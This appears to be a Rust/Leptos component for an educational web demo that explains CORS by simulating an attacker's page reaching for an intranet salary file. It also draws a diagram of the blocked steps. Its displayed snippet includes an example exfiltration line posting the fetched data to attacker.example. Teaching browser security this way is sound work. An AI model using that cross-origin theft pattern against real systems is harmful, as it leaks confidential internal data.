//! Demo 1: this page plays an attacker's site and tries to read the
//! intranet's salary sheet through the learner's browser. The request
//! arrives (the intranet's log says so); the answer reaches the browser; the
//! script is refused it, so there is nothing to send home.

use cors_core::wire::{DemoConfig, LogEntry, Role};
use leptos::prelude::*;
use leptos::task::spawn_local;

use super::card::{arrivals, new_case, with_case, DemoCard, DemoLog, Mark, OpenLog, Status};
use crate::demo::{self, FetchOutcome};
use crate::i18n::{t, Arg, Text};

/// The section id (`/why#intranet`).
pub const ID: &str = "intranet";

/// The card's title (also the contents list's).
pub fn title() -> Text {
    t!(why.intranet.title)
}

const SALARIES: &str = "/salaries.json";

/// One run: what the script got, and the intranet's log entry for it.
#[derive(Clone, Debug)]
struct Run {
    outcome: FetchOutcome,
    arrived: Option<LogEntry>,
}

impl Run {
    fn step_2(&self) -> (Mark, Text) {
        match &self.arrived {
            Some(entry) => (
                Mark::Happened,
                t!(
                    why.intranet.arrived,
                    method = &entry.method,
                    path = &entry.path,
                    origin = entry
                        .header("origin")
                        .map_or_else(|| Arg::from(t!(why.none)), Arg::from),
                    status = entry.status
                ),
            ),
            None => (Mark::Stopped, t!(why.intranet.not_arrived)),
        }
    }

    fn step_3(&self) -> (Mark, Text) {
        match (&self.outcome, self.arrived.is_some()) {
            (FetchOutcome::Rejected { error }, true) => {
                (Mark::Withheld, t!(why.intranet.withheld, error = error))
            }
            (FetchOutcome::Rejected { error }, false) => {
                (Mark::Stopped, t!(why.intranet.no_answer, error = error))
            }
            (FetchOutcome::Read { status, .. }, _) => {
                (Mark::Happened, t!(why.intranet.read, status = *status))
            }
        }
    }

    fn step_4(&self) -> (Mark, Text) {
        match &self.outcome {
            FetchOutcome::Rejected { .. } => (Mark::Stopped, t!(why.intranet.nothing_to_send)),
            FetchOutcome::Read { .. } => (Mark::Happened, t!(why.intranet.holds)),
        }
    }
}

/// The card: story, diagram, the run, the log.
#[component]
pub fn IntranetDemo(config: DemoConfig) -> impl IntoView {
    let intranet = demo::origin_url(&config, Role::Intranet);
    let page_origin = demo::origin_url(&config, Role::App);
    let run = RwSignal::new(None::<Run>);
    let running = RwSignal::new(false);
    let case = RwSignal::new(None::<String>);
    let open_log = OpenLog::get();

    let start = move |_| {
        let this_case = new_case("intranet");
        let url = demo::tagged_url(&config, Role::Intranet, &with_case(SALARIES, &this_case));
        case.set(Some(this_case.clone()));
        open_log.show(ID);
        running.set(true);
        run.set(None);
        spawn_local(async move {
            let outcome = demo::plain_fetch(&url).await;
            let arrived = arrivals(&this_case)
                .await
                .into_iter()
                .find(|e| e.role == Role::Intranet);
            run.set(Some(Run { outcome, arrived }));
            running.set(false);
        });
    };

    let step = move |n: u8| {
        move || {
            let (mark, detail) = match run.get() {
                None if running.get() => (Mark::Pending, t!(why.intranet.running)),
                None => (Mark::Pending, t!(why.intranet.press)),
                Some(r) => match n {
                    2 => r.step_2(),
                    3 => r.step_3(),
                    _ => r.step_4(),
                },
            };
            view! { <Status mark detail /> }
        }
    };
    let diagram_state = Signal::derive(move || match run.get() {
        None => "idle",
        Some(Run {
            outcome: FetchOutcome::Read { .. },
            ..
        }) => "read",
        Some(Run { arrived: None, .. }) => "unreached",
        Some(_) => "withheld",
    });

    view! {
        <DemoCard id=ID number=1 title=title()>
            <p>{t!(why.intranet.story)}</p>
            <p>
                {t!(why.intranet.setup,
                    page_origin = page_origin.clone(), intranet = intranet.clone())}
            </p>
            <pre class="code"><code>
                {format!("const answer = await fetch(\"{intranet}{SALARIES}\");\n")}
                "await fetch(\"https://attacker.example/collect\", { method: \"POST\", body: await answer.text() });"
            </code></pre>
            <div class="why-demo">
                <div class="why-main">
                    <button type="button" class="primary" on:click=start disabled=move || running.get() data-testid="why-intranet-run">
                        {move || if running.get() {
                            t!(why.intranet.running).into_any()
                        } else {
                            t!(why.intranet.run).into_any()
                        }}
                    </button>
                    <figure class="why-figure">
                        <Diagram state=diagram_state />
                        <figcaption class="caption">{t!(why.intranet.figure)}</figcaption>
                    </figure>
                    <ol class="why-steps" aria-live="polite">
                        <li data-testid="why-intranet-step-1">
                            <span class="why-step-title">{t!(why.intranet.step_1)}</span>
                            <Status mark=Mark::Happened detail=t!(why.intranet.step_1_done) />
                        </li>
                        <li data-testid="why-intranet-step-2">
                            <span class="why-step-title">{t!(why.intranet.step_2, path = SALARIES)}</span>
                            {step(2)}
                        </li>
                        <li data-testid="why-intranet-step-3">
                            <span class="why-step-title">{t!(why.intranet.step_3)}</span>
                            {step(3)}
                        </li>
                        <li data-testid="why-intranet-step-4">
                            <span class="why-step-title">{t!(why.intranet.step_4)}</span>
                            {step(4)}
                        </li>
                    </ol>
                    <Show when=move || run.with(Option::is_some)>
                        <p class="why-js-label">{t!(why.intranet.js_label)}</p>
                        <pre class="js-result" data-testid="why-intranet-result">
                            {move || match run.get().map(|r| r.outcome) {
                                Some(FetchOutcome::Rejected { error }) => error,
                                Some(FetchOutcome::Read { body, .. }) => body,
                                None => String::new(),
                            }}
                        </pre>
                    </Show>
                </div>
                <DemoLog demo=ID case />
            </div>
            <p class="why-takeaway">{t!(why.intranet.takeaway)}</p>
        </DemoCard>
    }
}

/// The attack as a picture: you, your browser holding the attacker's page,
/// the intranet server, the attacker's server; arrows numbered 1–4. After a
/// run, a bar stands between the answer and the page and the last arrow is
/// crossed out (shapes, not only colour).
#[component]
fn Diagram(
    /// `idle`, `withheld`, `unreached` or `read`.
    state: Signal<&'static str>,
) -> impl IntoView {
    view! {
        <svg class="why-diagram" data-state=move || state.get() viewBox="0 0 640 280" role="img"
            aria-label=move || t!(why.intranet.diagram.label).string()>
            <defs>
                <marker id="why-arrowhead" viewBox="0 0 10 10" refX="9" refY="5" markerWidth="6" markerHeight="6" orient="auto-start-reverse">
                    <path d="M0,0 L10,5 L0,10 z" class="why-arrowhead" />
                </marker>
            </defs>
            // You
            <g class="why-node">
                <circle cx="42" cy="128" r="14" />
                <path d="M18,180 q24,-40 48,0 z" />
                <text x="42" y="204" text-anchor="middle">{t!(why.intranet.diagram.you)}</text>
            </g>
            // Your browser, with the attacker's page and its script inside
            <g class="why-node">
                <rect x="96" y="16" width="300" height="252" rx="12" class="why-browser" />
                <text x="112" y="40">{t!(why.intranet.diagram.browser)}</text>
                <rect x="112" y="52" width="180" height="200" rx="8" class="why-page" />
                <text x="124" y="76">{t!(why.intranet.diagram.page)}</text>
                <rect x="128" y="124" width="148" height="56" rx="6" class="why-script" />
                <text x="202" y="157" text-anchor="middle">{t!(why.intranet.diagram.script)}</text>
            </g>
            // The intranet server and the attacker's server
            <g class="why-node">
                <rect x="476" y="20" width="150" height="80" rx="8" class="why-server" />
                <text x="551" y="54" text-anchor="middle">{t!(why.intranet.diagram.intranet)}</text>
                <text x="551" y="76" text-anchor="middle" class="why-small" translate="no">"salaries.json"</text>
                <rect x="476" y="184" width="150" height="80" rx="8" class="why-server" />
                <text x="551" y="218" text-anchor="middle">{t!(why.intranet.diagram.attacker_1)}</text>
                <text x="551" y="240" text-anchor="middle">{t!(why.intranet.diagram.attacker_2)}</text>
            </g>
            // 1: you open the page
            <g class="why-arrow step-1">
                <line x1="66" y1="150" x2="110" y2="150" class="why-line" marker-end="url(#why-arrowhead)" />
                <StepNumber n="1" x=88 y=130 />
            </g>
            // 2: the script asks the intranet
            <g class="why-arrow step-2">
                <line x1="276" y1="130" x2="474" y2="52" class="why-line" marker-end="url(#why-arrowhead)" />
                <StepNumber n="2" x=400 y=81 />
            </g>
            // 3: the answer reaches the browser, and a bar keeps it from the page
            <g class="why-arrow step-3">
                <line x1="474" y1="92" x2="322" y2="150" class="why-line" marker-end="url(#why-arrowhead)" />
                <StepNumber n="3" x=420 y=113 />
                <g class="why-barrier">
                    <line x1="308" y1="128" x2="308" y2="172" />
                </g>
            </g>
            // 4: the script would send it to the attacker
            <g class="why-arrow step-4">
                <line x1="276" y1="172" x2="474" y2="222" class="why-line" marker-end="url(#why-arrowhead)" />
                <StepNumber n="4" x=340 y=188 />
                <g class="why-cross">
                    <line x1="398" y1="194" x2="422" y2="218" />
                    <line x1="422" y1="194" x2="398" y2="218" />
                </g>
            </g>
        </svg>
    }
}

/// A numbered circle on an arrow.
#[component]
fn StepNumber(n: &'static str, x: i32, y: i32) -> impl IntoView {
    view! {
        <g class="why-step-number">
            <circle cx=x cy=y r="11" />
            <text x=x y={y + 5} text-anchor="middle">{n}</text>
        </g>
    }
}
